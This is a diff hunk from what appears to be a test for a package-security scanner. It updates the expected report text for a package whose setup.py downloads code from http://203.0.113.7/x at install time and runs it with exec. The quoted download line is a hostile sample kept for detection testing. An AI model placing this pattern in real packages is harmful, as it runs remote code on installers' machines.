@@ -228,7 +228,7 @@ async def test_install_time_download_and_exec_blocks_then_a_fix_clears_it(
         "<details><summary>⛔ pkg 2.0 — install-time-payload, download-exec, install-script, "
         "dynamic-code</summary>\n\n"
         "⛔ **`install-time-payload`** — Makes an HTTP request with urllib.request.urlopen "
-        "while the package is installed. (`setup.py:3`) (also in `setup.py:4`)\n"
+        "while the package is installed. (`setup.py:3`)\n"
         "```python\ncode = urllib.request.urlopen('http://203.0.113.7/x').read()\n```\n\n"
         "⛔ **`download-exec`** — Downloads `http://203.0.113.7/x` with "
         "`urllib.request.urlopen` \\(setup.py:3\\) and runs it with `exec` \\(setup.py:4\\).\n"
